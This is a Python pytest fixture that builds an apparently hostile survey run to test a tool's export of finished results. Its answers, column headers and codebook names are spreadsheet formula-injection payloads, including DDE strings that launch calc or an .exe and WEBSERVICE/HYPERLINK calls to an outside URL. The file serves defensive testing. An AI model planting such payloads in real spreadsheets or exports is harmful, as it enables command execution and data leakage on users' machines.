"""Finished runs to export: one whose every text, header and name is a payload, one of plain answers."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

import otklik
from otklik import messages
from otklik.export import finished
from otklik.export.finished import Finished

HEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
TAILS = (
    "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", "A1", '"x"', "=1+1", 'HYPERLINK("http://x.org?"&A1,"да")', "{=1+1}",
    "1e5", "'1", ";=1+1", ",=1+1", "\n=1+1", "да, очень помогает людям", "нет времени; экзамены", "IMPORTXML(A1)",
    'WEBSERVICE("http://x.org")', "-2+3", "@SUM(1)", "MSEXCEL|'\\..\\..\\x.exe'!''", "(1)", "%0A=1", "\t=1", " 1",
    "DDE(1)", "а",
)  # fmt: skip
PAYLOADS = [head + tail for head in HEADS for tail in TAILS]
ODD = [
    "'tis only fair", "''=1", "'", "😀👩‍⚕️ очень рада помогать", "две\r\nстроки о помощи", "CR\rв ответе", "NUL\0внутри",
    "_x000D_ как текст", "  пробелы по краям  ", '"кавычки"; запятая, и ещё', "007", "1e5", "TRUE", "не\u202eверх",
    "А" * 33_000,
]  # fmt: skip
PLAIN = [
    "Нет времени; учёба и подработка, экзамены важнее", "Научилась ставить капельницы и разговаривать с больными",
    "Заставляют ради галочки и отчёта, бесплатная рабочая сила", "I loved every shift, made friends",
]  # fmt: skip

CODEBOOK = """\
id: payloads
version: 3
themes:
  - id: time_load
    name: {en: "=1+1", ru: "=1+1"}
    define: "@SUM(A1)"
    seeds: {ru: [время, экзамен*], en: [time, exam*]}
  - id: skills
    name: {en: "-2+3", ru: "-2+3"}
    define: "+cmd|' /C calc'!A0"
    seeds: {ru: [научил*, капельниц*], en: [learn*, skill*]}
"""


def saved(frame: pd.DataFrame, folder: Path, codebook: str) -> Finished:
    messages.use("en")
    book = folder.with_suffix(".yaml")
    book.write_text(codebook, encoding="utf-8")
    otklik.run(frame, text="@answer", by=["=group"], codebook=book, model="volunteering", topics=0).save(folder)
    return finished.read(folder)


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Finished:
    """A run whose texts, headers, values and names of codes all begin as formulas, or are odd in another way."""
    texts = [*PAYLOADS, *ODD, *(f"{one} {at}" for at in range(10) for one in PLAIN)]
    frame = pd.DataFrame(
        {"=group": [PAYLOADS[at % len(PAYLOADS)] for at in range(len(texts))], "@answer": texts, "row": "-", "n": "1.5"}
    )
    return saved(frame, tmp_path_factory.mktemp("hostile") / "run", CODEBOOK)
